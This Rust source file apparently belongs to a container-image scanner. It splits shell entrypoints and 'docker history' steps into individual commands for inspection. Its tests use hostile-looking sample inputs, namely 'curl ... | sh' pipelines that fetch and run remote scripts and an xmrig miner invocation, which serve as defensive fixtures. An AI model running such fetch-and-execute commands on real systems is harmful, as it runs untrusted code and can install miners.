//! Shell command lines as an image declares them: `sh -c "a && b | c"` entrypoints and
//! `docker history` `created_by` strings. Splits a script into the simple commands it
//! runs, so each can be judged (and turned into an event) on its own. This is a lexer
//! for the common subset of POSIX sh (quotes, escapes, `;` `&&` `||` `|` `&` and
//! newlines as separators), bounded in input size; it never executes anything.

/// Longest script split; the rest is ignored (callers have already bounded inputs).
const MAX_SCRIPT: usize = 1 << 20;

/// Split a shell script into simple commands, each as the text between separators,
/// trimmed. Quoted separators do not split.
pub fn split_commands(script: &str) -> Vec<String> {
    let script = &script[..floor_char_boundary(script, MAX_SCRIPT)];
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut chars = script.chars().peekable();
    let mut quote: Option<char> = None;
    while let Some(c) = chars.next() {
        match quote {
            Some(q) => {
                cur.push(c);
                if c == q {
                    quote = None;
                } else if c == '\\' && q == '"' {
                    if let Some(n) = chars.next() {
                        cur.push(n);
                    }
                }
            }
            None => match c {
                '\'' | '"' => {
                    quote = Some(c);
                    cur.push(c);
                }
                '\\' => {
                    // Line continuation joins lines; other escapes are kept.
                    match chars.next() {
                        Some('\n') => cur.push(' '),
                        Some(n) => {
                            cur.push('\\');
                            cur.push(n);
                        }
                        None => {}
                    }
                }
                ';' | '\n' | '|' | '&' => {
                    // `||`, `&&`, `|&` are one separator; `&>`/`>&` redirections are not.
                    if c == '&' && (cur.ends_with('>') || chars.peek() == Some(&'>')) {
                        cur.push(c);
                        continue;
                    }
                    if matches!(chars.peek(), Some('|') | Some('&')) && c != ';' && c != '\n' {
                        chars.next();
                    }
                    push_trimmed(&mut out, &mut cur);
                }
                _ => cur.push(c),
            },
        }
    }
    push_trimmed(&mut out, &mut cur);
    out
}

fn push_trimmed(out: &mut Vec<String>, cur: &mut String) {
    let t = cur.trim();
    if !t.is_empty() {
        out.push(t.to_string());
    }
    cur.clear();
}

fn floor_char_boundary(s: &str, max: usize) -> usize {
    if s.len() <= max {
        return s.len();
    }
    let mut i = max;
    while !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

/// Words of one simple command (quotes removed), via `shell-words`; falls back to
/// whitespace splitting when quotes are unbalanced (hostile input must still be read).
pub fn words(command: &str) -> Vec<String> {
    shell_words::split(command)
        .unwrap_or_else(|_| command.split_whitespace().map(str::to_string).collect())
}

/// If `argv` runs a shell script (`sh -c SCRIPT`, `/bin/bash -lc SCRIPT`, ...), the
/// script.
pub fn shell_script(argv: &[String]) -> Option<&str> {
    let prog = argv.first()?;
    let base = prog.rsplit('/').next().unwrap_or(prog);
    if !matches!(
        base,
        "sh" | "bash" | "ash" | "dash" | "zsh" | "ksh" | "busybox"
    ) {
        return None;
    }
    let mut i = 1;
    if base == "busybox" {
        // `busybox sh -c ...`
        if argv.get(1).map(String::as_str) != Some("sh") {
            return None;
        }
        i = 2;
    }
    while let Some(a) = argv.get(i) {
        if a.starts_with('-') && !a.starts_with("--") && a.contains('c') {
            return argv.get(i + 1).map(String::as_str);
        }
        if !a.starts_with('-') {
            return None;
        }
        i += 1;
    }
    None
}

/// The commands an image runs at start: entrypoint + cmd joined, and when that is a
/// shell script, each command of the script.
pub fn start_commands(entrypoint: &[String], cmd: &[String]) -> Vec<String> {
    let argv: Vec<String> = entrypoint.iter().chain(cmd.iter()).cloned().collect();
    if argv.is_empty() {
        return Vec::new();
    }
    match shell_script(&argv) {
        Some(script) => split_commands(script),
        None => vec![shell_words::join(&argv)],
    }
}

/// The shell script a `docker history` step ran, or `None` for steps that run nothing
/// (`#(nop)` metadata steps, BuildKit `COPY`/`ENV`/... lines).
pub fn history_script(created_by: &str) -> Option<&str> {
    let s = created_by.trim();
    let s = s.strip_suffix("# buildkit").unwrap_or(s).trim_end();
    if let Some(rest) = s
        .strip_prefix("/bin/sh -c ")
        .or_else(|| s.strip_prefix("sh -c "))
    {
        let rest = rest.trim_start();
        return (!rest.starts_with("#(nop)")).then_some(rest);
    }
    if let Some(rest) = s.strip_prefix("RUN ") {
        let rest = rest.trim_start();
        // BuildKit: `RUN /bin/sh -c apt-get ...` or `RUN |2 A=1 B=2 /bin/sh -c ...`
        let rest = match rest.find("/bin/sh -c ") {
            Some(i) if rest.starts_with('|') || i == 0 => &rest[i + "/bin/sh -c ".len()..],
            _ => rest,
        };
        return Some(rest.trim());
    }
    let first = s.split_whitespace().next().unwrap_or("");
    let dockerfile_keyword = first.len() > 1 && first.bytes().all(|b| b.is_ascii_uppercase());
    (!dockerfile_keyword && !s.is_empty()).then_some(s)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(a: &[&str]) -> Vec<String> {
        a.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn splits_on_separators_not_in_quotes() {
        assert_eq!(
            split_commands("curl -s http://x/a.sh | sh && echo 'a;b' ; wget y || true\nls &"),
            v(&[
                "curl -s http://x/a.sh",
                "sh",
                "echo 'a;b'",
                "wget y",
                "true",
                "ls"
            ])
        );
        assert_eq!(split_commands("a \\\n b"), v(&["a   b"]));
        assert_eq!(
            split_commands("x >/dev/null 2>&1; y"),
            v(&["x >/dev/null 2>&1", "y"])
        );
        assert_eq!(
            split_commands("echo \"a \\\" | b\""),
            v(&["echo \"a \\\" | b\""])
        );
        assert!(split_commands("").is_empty());
    }

    #[test]
    fn finds_shell_scripts_in_argv() {
        assert_eq!(shell_script(&v(&["/bin/sh", "-c", "x; y"])), Some("x; y"));
        assert_eq!(shell_script(&v(&["bash", "-lc", "z"])), Some("z"));
        assert_eq!(shell_script(&v(&["busybox", "sh", "-c", "z"])), Some("z"));
        assert_eq!(shell_script(&v(&["/usr/bin/xmrig", "-c", "conf"])), None);
        assert_eq!(shell_script(&v(&["sh", "script.sh"])), None);
        assert_eq!(
            start_commands(&v(&["/bin/sh", "-c"]), &v(&["a && b"])),
            v(&["a", "b"])
        );
        assert_eq!(
            start_commands(&v(&["xmrig"]), &v(&["-o", "pool x:1"])),
            v(&["xmrig -o 'pool x:1'"])
        );
    }

    #[test]
    fn history_steps() {
        assert_eq!(history_script("/bin/sh -c #(nop)  CMD [\"bash\"]"), None);
        assert_eq!(
            history_script("/bin/sh -c apt-get update && apt-get install -y curl"),
            Some("apt-get update && apt-get install -y curl")
        );
        assert_eq!(
            history_script("RUN /bin/sh -c curl -s http://e/x | sh # buildkit"),
            Some("curl -s http://e/x | sh")
        );
        assert_eq!(
            history_script("RUN |1 V=2 /bin/sh -c make install # buildkit"),
            Some("make install")
        );
        assert_eq!(history_script("COPY run.sh / # buildkit"), None);
        assert_eq!(history_script("ENV A=b"), None);
        assert_eq!(history_script("wget http://x"), Some("wget http://x"));
    }
}
